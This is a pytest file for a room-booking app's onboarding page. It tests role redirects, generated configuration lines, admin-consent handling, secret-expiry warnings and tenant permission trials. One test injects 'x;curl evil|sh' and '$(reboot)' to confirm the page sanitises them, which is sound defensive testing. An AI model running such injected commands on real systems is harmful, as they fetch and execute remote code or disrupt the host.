"""The first page: who is led there, the lines it writes, and trying what a tenant permits."""

from __future__ import annotations

import asyncio
import re
from collections.abc import AsyncIterator, Iterator
from pathlib import Path
from typing import Any

import pytest
from pydantic import SecretStr

from engine.app.trials import try_tenant
from engine.app.web_parts import Outside
from engine.database.access.sessions import SessionStore
from engine.errors import (
    AccessDenied,
    CredentialsRevoked,
    DirectorySilent,
    EngineError,
    MailboxClosed,
    Refused,
    Unreachable,
)
from engine.ids import Address
from engine.rooms.calendar import EventDraft
from engine.rooms.room import Place
from engine.settings import GraphSettings
from engine.web.pages.parts.trials import Needed, Outcome, Trial
from tests.web.conftest import TestClient
from tests.web.visitors import AMELIE, House, open_house


@pytest.fixture
def house(tmp_path: Path) -> Iterator[House]:
    trials = [
        Trial(Needed.IDENTITY, Outcome.OK),
        Trial(Needed.PLACES, Outcome.FAILED, "403: no Place.Read.All"),
    ]
    with open_house(tmp_path, Outside(try_tenant=lambda: trials)) as found:
        yield found


@pytest.fixture
def admin(house: House) -> TestClient:
    return house.signed_in("admin")


class TestComingIn:
    def test_leads_administrators_of_the_demonstration_here_once(self, house: House, admin: TestClient) -> None:
        assert admin.get("/").headers["Location"] == "/welcome"
        assert admin.post("/welcome/done").headers["Location"] == "/board"
        assert admin.get("/").headers["Location"] == "/board"

    def test_leads_everybody_else_to_the_board(self, house: House) -> None:
        for role in ("requester", "viewer", "staff"):
            visitor = house.signed_in(role)
            assert visitor.get("/").headers["Location"] == "/board"
            assert visitor.get("/welcome").status_code == 403


class TestTheLines:
    def test_are_written_from_what_is_known(self, admin: TestClient) -> None:
        known = {"tenant": "contoso.example", "client": "0e4b-6a4c", "url": "https://accord.example.org"}

        page = admin.get("/welcome", params=known).text

        assert "ENGINE_GRAPH__TENANT_ID=contoso.example" in page
        assert "ENGINE_WEB__PUBLIC_URL=https://accord.example.org" in page
        assert "New-ManagementRoleAssignment -App 0e4b-6a4c" in page
        assert "ENGINE_SYNC__MODE=read_only" in page
        assert "DELIVERY=poll" not in page

    def test_poll_without_a_public_address(self, admin: TestClient) -> None:
        assert "ENGINE_SYNC__DELIVERY=poll" in admin.get("/welcome").text

    def test_hold_nothing_that_a_shell_would_run(self, admin: TestClient) -> None:
        """Somebody else may have made the link."""
        page = admin.get("/welcome", params={"tenant": "x;curl evil|sh", "client": "$(reboot)"}).text

        lines = " ".join(re.findall(r"<pre.*?</pre>", page, re.DOTALL))
        assert "ENGINE_GRAPH__TENANT_ID=…" in lines
        assert "evil" not in lines
        assert "reboot" not in lines


class TestConsent:
    def test_has_an_address_once_both_ids_are_known(self, admin: TestClient) -> None:
        known = {"tenant": "contoso.example", "client": "0e4b-6a4c"}

        page = admin.get("/welcome", params=known).text

        assert "https://login.microsoftonline.com/contoso.example/adminconsent?client_id=0e4b-6a4c&amp;" in page
        assert "redirect_uri=http%3A%2F%2F127.0.0.1%3A8420%2Fwelcome%2Fconsented" in page
        assert "adminconsent" not in admin.get("/welcome").text

    @pytest.mark.parametrize(
        ("query", "said"),
        [
            ({"admin_consent": "True", "tenant": "x", "state": "y"}, "The directory says that the permissions are"),
            ({"admin_consent": "True", "error": "permission_denied"}, "The permissions were not granted."),
            ({"error": "access_denied", "error_description": "The admin <canceled>"}, "The admin &lt;canceled&gt;"),
        ],
    )
    def test_comes_back_with_what_became_of_it(self, admin: TestClient, query: dict[str, str], said: str) -> None:
        """A refusal may carry admin_consent=True as well (Entra docs: v2-admin-consent)."""
        assert said in admin.get("/welcome/consented", params=query).text

    def test_is_for_administrators(self, house: House) -> None:
        assert house.signed_in("staff").get("/welcome/consented").status_code == 403


class TestTheEndOfTheSecret:
    @pytest.mark.parametrize(
        ("day", "said"),
        [
            ("2027-03-01", ""),
            ("2026-12-01", "ends in 11 days, on Tue 1 Dec 2026"),
            ("2026-11-20", "ends today"),
            ("2026-11-19", "ended on Thu 19 Nov 2026"),
        ],
    )
    def test_is_told_on_the_pages_and_by_status(self, tmp_path: Path, day: str, said: str) -> None:
        """On pages only when there is something to do; `status` always."""
        graph = GraphSettings(
            credential="secret", tenant_id="t", client_id="c", client_secret=SecretStr("s"), credential_expires=day
        )
        with open_house(tmp_path, graph=graph) as house:
            credential = house.office.read_status()["credential"]
            session = SessionStore(house.office.database).create(AMELIE, "admin", provider="test", agent="")
            visitor = house.visitor(Cookie=f"accord_session={session}")
            pages = [visitor.get(path).text for path in ("/activity", "/welcome")]

        assert credential["expires_on"] == day  # type: ignore[index]
        for page in pages:
            assert said in page
            assert ("application’s secret or certificate" in page) == bool(said)


class TestTrying:
    def test_shows_what_came_of_it_and_what_to_do(self, admin: TestClient) -> None:
        whole, piece = admin.post("/welcome/try"), admin.post("/welcome/try", headers={"HX-Request": "true"})

        for answer in (whole, piece):
            assert "The application may sign in</b> · works" in answer.text
            assert "Application permission Place.Read.All, with admin consent." in answer.text
            assert "403: no Place.Read.All" in answer.text
        assert "<html" in whole.text
        assert "<html" not in piece.text


class Tenant:
    """A calendar side that answers as it is told to."""

    def __init__(self, *, rooms: int = 1, **errors: Exception) -> None:
        self.rooms = rooms
        self.errors = errors
        self.written: list[str] = []

    async def fetch_places(self) -> AsyncIterator[tuple[Place, ...]]:
        self._answer("places")
        yield (Place("dir-fern", Address("fern@example.org"), "Fern"),) * self.rooms

    async def find_event(self, mailbox: str, ical_uid: str) -> None:
        self._answer("room")

    async def create_event(self, mailbox: str, draft: EventDraft) -> Any:
        self._answer("writing")
        assert draft.rooms == ()
        self.written.append(mailbox)
        return type("Made", (), {"event_id": "event-1"})

    async def delete_event(self, mailbox: str, event_id: str) -> bool:
        assert event_id == "event-1"
        self.written.remove(mailbox)
        return True

    def _answer(self, what: str) -> None:
        if what in self.errors:
            raise self.errors[what]


def outcomes(house: House, tenant: Tenant) -> dict[str, str]:
    return {trial.needed.value: trial.outcome.value for trial in asyncio.run(try_tenant(house.office, tenant))}  # type: ignore[arg-type]


class TestTheTrials:
    def test_go_on_after_one_has_failed(self, house: House) -> None:
        """Each is told for itself; nothing is subscribed to in this house."""
        house.office.overrides.save_override("loans.default_user", "desk@example.org", "app:test")
        house.office.rules.forget()

        assert outcomes(house, Tenant()) == {
            "identity": "ok", "places": "ok", "room_calendars": "ok", "writing": "ok", "closed": "not_tried",
            "notifications": "failed",
        }  # fmt: skip
        assert outcomes(house, Tenant(room=MailboxClosed("no"), writing=Refused("no"))) == {
            "identity": "ok", "places": "ok", "room_calendars": "failed", "writing": "failed",
            "closed": "not_tried", "notifications": "failed",
        }  # fmt: skip
        assert outcomes(house, Tenant(places=Refused("no")))["room_calendars"] == "not_tried"

    @pytest.mark.parametrize("error", [CredentialsRevoked("invalid_client"), DirectorySilent("no route")])
    def test_end_where_nobody_knows_us(self, house: House, error: EngineError) -> None:
        """Or where nobody is there to know us: a token was never given."""
        found = outcomes(house, Tenant(places=error))

        assert found.pop("identity") == "failed"
        assert set(found.values()) == {"not_tried"}

    def test_end_where_graph_does_not_answer(self, house: House) -> None:
        """Each of the others would wait as long, only to say that its own permission is missing."""
        house.office.overrides.save_override("loans.default_user", "desk@example.org", "app:test")
        house.office.rules.forget()
        tenant = Tenant(places=Unreachable("no connection"))

        found = outcomes(house, tenant)

        assert (found.pop("identity"), found.pop("places")) == ("ok", "failed")
        assert set(found.values()) == {"not_tried"}
        assert tenant.written == []

    @pytest.mark.parametrize("error", [CredentialsRevoked("invalid_client"), Unreachable("no connection")])
    def test_give_no_other_reason_for_what_an_earlier_one_kept_from_being_tried(
        self, house: House, error: EngineError
    ) -> None:
        """A default user is named, and a closed mailbox may be: neither is what is missing."""
        trials = asyncio.run(try_tenant(house.office, Tenant(places=error)))

        later = [trial for trial in trials if trial.outcome is Outcome.NOT_TRIED]
        assert later
        assert all(trial.is_moot for trial in later)
        cause = next(trial for trial in trials if trial.outcome is Outcome.FAILED)
        assert cause.is_moot == (cause.needed is Needed.PLACES), "that Graph is silent tells nothing of a permission"

    def test_tell_an_empty_list_of_rooms_from_one_that_may_not_be_read(self, house: House) -> None:
        """It was answered: advice on a permission would lead astray."""
        empty, refused = (
            next(trial for trial in asyncio.run(try_tenant(house.office, tenant)) if trial.needed is Needed.PLACES)
            for tenant in (Tenant(rooms=0), Tenant(places=AccessDenied("403")))
        )
        assert (empty.outcome, empty.is_moot) == (Outcome.FAILED, True)
        assert "the list of rooms is empty" in empty.detail
        assert (refused.outcome, refused.is_moot) == (Outcome.FAILED, False)

    def test_leave_nothing_behind_and_write_only_where_the_mode_allows_it(self, house: House) -> None:
        tenant, overrides = Tenant(), house.office.overrides
        assert outcomes(house, tenant)["writing"] == "not_tried"
        overrides.save_override("loans.default_user", "desk@example.org", "app:test")
        house.office.rules.forget()
        assert outcomes(house, tenant)["writing"] == "ok"
        assert tenant.written == []

        overrides.save_override("sync.mode", "read_only", "app:test")
        house.office.rules.forget()

        assert outcomes(house, tenant)["writing"] == "not_tried"
